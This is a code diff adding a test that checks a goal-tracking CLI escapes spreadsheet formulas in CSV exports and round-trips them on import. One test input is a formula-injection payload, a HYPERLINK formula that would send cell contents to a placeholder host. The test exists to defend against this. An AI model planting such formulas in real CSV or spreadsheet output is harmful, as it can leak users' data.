@@ -136,3 +136,26 @@ def test_bad_lock_timeout_is_an_input_error(runner: CliRunner, home: Path) -> No
         result = run_cli("edit-client", "c-1", "--name", "x", env={"GOALTRACK_LOCK_TIMEOUT": bad})
         assert result.returncode == 1, bad
         assert "GOALTRACK_LOCK_TIMEOUT" in result.stderr
+
+
+def test_csv_text_cannot_run_as_a_spreadsheet_formula(runner: CliRunner, home: Path) -> None:
+    """A title or note starting with '=' is written to CSV with a leading apostrophe, and
+    a CSV export of it imports back to the original text."""
+    invoke(runner, "new-client", "c-1")
+    invoke(runner, "add-goal", "c-1", "coping", '=HYPERLINK("http://x/?"&A1,"x")')
+    invoke(runner, "log", "c-1", "1", "4", "--date", "2026-10-01", "--note", "=1+1")
+    assert "'=HYPERLINK" in invoke(runner, "goals", "c-1", "-f", "csv").stdout
+    exported = invoke(runner, "export", "c-1", "-f", "csv").stdout
+    assert ",'=1+1" in exported
+    assert ",4," in exported  # numbers, negative ones included, are not text
+    other = home.parent / "other"
+    result = run_cli("--home", str(other), "import", "-", "--input-format", "csv",
+                     input="client,goal,date,value,note\nc-2,1,2026-10-01,4,'=1+1\n")  # fmt: skip
+    assert result.returncode == 1  # c-2 does not exist there: the row is still parsed first
+    run_cli("--home", str(other), "new-client", "c-2")
+    run_cli("--home", str(other), "add-goal", "c-2", "coping", "x")
+    result = run_cli("--home", str(other), "import", "-", "--input-format", "csv",
+                     input="client,goal,date,value,note\nc-2,1,2026-10-01,4,'=1+1\n")  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    stored = tomllib.loads((other / "clients" / "c-2.toml").read_text())
+    assert stored["goals"][0]["progress"][0]["note"] == "=1+1"
